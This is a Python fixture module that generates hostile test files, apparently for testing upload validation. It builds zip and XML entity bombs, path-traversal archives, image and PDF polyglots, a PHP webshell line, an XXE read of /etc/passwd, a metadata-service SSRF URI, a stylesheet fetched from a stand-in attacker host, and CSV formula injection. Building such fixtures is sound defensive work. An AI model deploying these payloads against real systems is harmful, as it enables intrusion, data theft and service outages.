"""Files that are two things at once, bombs, and pictures larger than any memory; all made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

HTML = b"<html><body><script>evil7()</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="evil7()"><script>evil7()</script></svg>'
PHP = b"<?php system($_GET['evil7']); ?>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PNG_START = b"\x89PNG\r\n\x1a\n"
JPG_START = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
GIF_START = b"GIF89a\x01\x00\x01\x00\x00\x00\x00"
WEBP_START = b"RIFF\x24\x00\x00\x00WEBPVP8 "
PDF_START = b"%PDF-1.7\n"
MP4_START = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int = 1, height: int = 1, *, text: bytes = b"", after: bytes = b"") -> bytes:
    """A picture with a comment inside, and something behind its end."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    comment = _chunk(b"tEXt", b"Comment\x00" + text) if text else b""
    return b"".join(
        (PNG_START, _chunk(b"IHDR", header), comment, _chunk(b"IDAT", pixels), _chunk(b"IEND", b""), after)
    )


def archive(names: dict[str, bytes]) -> bytes:
    """A zip with these members."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        for name, content in names.items():
            packed.writestr(name, content)
    return into.getvalue()


def office(folder: str, *, extra: dict[str, bytes] | None = None) -> bytes:
    """An office document's bare bones."""
    bones = {"[Content_Types].xml": b"<Types/>", f"{folder}/document.xml": b"<document/>"}
    return archive(bones | (extra or {}))


def zip_bomb() -> bytes:
    """Five kilobytes that unpack to five gigabytes: ten archives of ten archives of 50 MB of zeros."""
    inner = archive({"0": b"\x00" * 50_000_000})
    middle = archive({f"{n}.zip": inner for n in range(10)})
    return archive({f"{n}.zip": middle for n in range(10)})


def nested(depth: int = 100) -> bytes:
    """An archive in an archive in an archive."""
    content = archive({"a.txt": b"a"})
    for _ in range(depth):
        content = archive({"a.zip": content})
    return content


def flood() -> bytes:
    """A picture of 50,000 x 50,000 pixels: 300 MB as bits, ten gigabytes as colours, 300 KB as a file."""
    return png(50_000, 50_000)


def traversing_archive() -> bytes:
    """An archive whose members want to lie elsewhere."""
    return archive({"../../../../tmp/evil7": b"x", "/etc/cron.d/evil7": b"x", "..\\..\\evil7": b"x"})


def _pdf(body: bytes) -> bytes:
    return PDF_START + b"1 0 obj\n" + body + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Thirty files that something might run: each taken under its name, or refused."""
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil7\n", "Evil7.class": b"\xca\xfe\xba\xbe"})
    yield "gifar.gif", GIF_START + jar
    yield "pngjar.png", png(after=jar)
    yield "jpgjar.jpg", JPG_START + jar
    yield "pdfjar.pdf", _pdf(b"<< >>") + jar
    yield "html-in-text-chunk.png", png(text=HTML)
    yield "html-behind.png", png(after=HTML)
    yield "php-behind.png", png(after=PHP)
    yield "svg-behind.png", png(after=SVG)
    yield "html-behind.jpg", JPG_START + HTML
    yield "php-comment.jpg", JPG_START + b"\xff\xfe\x00\x40" + PHP
    yield "gif-is-script.gif", b"GIF89a/*" + b"\x00" * 4 + b"*/=1;evil7();//"
    yield "html-behind.gif", GIF_START + HTML
    yield "html-behind.webp", WEBP_START + HTML
    yield "pdf-with-js.pdf", _pdf(b"<< /OpenAction << /S /JavaScript /JS (evil7\\(\\)) >> >>")
    yield "pdf-launches.pdf", _pdf(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>")
    yield "pdf-reads-files.pdf", _pdf(b"<< /F (file:///etc/passwd) /URI (http://169.254.169.254/) >>")
    yield "html-behind.pdf", PDF_START + HTML
    yield "html-behind.mp4", MP4_START + HTML
    yield "svg.xml", SVG
    yield "xhtml.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>evil7()</script></html>'
    yield "stylesheet.xml", b'<?xml-stylesheet href="//evil7.example/x.xsl" type="text/xsl"?><a/>'
    yield "entities.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "laughs.xml", _laughs()
    yield "html.txt", HTML
    yield "html.csv", HTML
    yield "formula.csv", b"=cmd|' /C calc'!A0\n@SUM(1)\n+1\n-1\n"
    yield "utf7.txt", b"+ADw-script+AD4-evil7()+ADw-/script+AD4-"
    yield "html.log", b"\xff\xfe" + HTML.decode().encode("utf-16-le")
    yield "macro.docx", office("word", extra={"word/vbaProject.bin": b"evil7", "word/evil7.html": HTML})
    yield "paths.zip", traversing_archive()


def _laughs() -> bytes:
    lines = [b'<!ENTITY a0 "evil7">']
    lines += [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    return b"<!DOCTYPE a [" + b"".join(lines) + b"]><a>&a9;</a>"
